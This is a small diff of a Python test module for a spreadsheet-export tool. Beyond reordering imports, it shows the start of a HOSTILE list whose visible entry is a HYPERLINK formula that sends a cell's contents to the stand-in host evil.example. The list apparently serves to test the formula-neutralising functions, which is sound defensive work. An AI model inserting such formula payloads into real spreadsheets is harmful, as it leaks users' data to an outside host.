@@ -13,9 +13,9 @@ from analysis import selection
 from analysis.config import Config, load_config
 from analysis.intake.year import _write_names
 from analysis.selection.audit import audit_files
-from example_pools import example_applicants
 from analysis.selection.explain import write_restricted
 from analysis.spreadsheet import markdown_text, neutralise_cell, neutralise_frame
+from example_pools import example_applicants
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
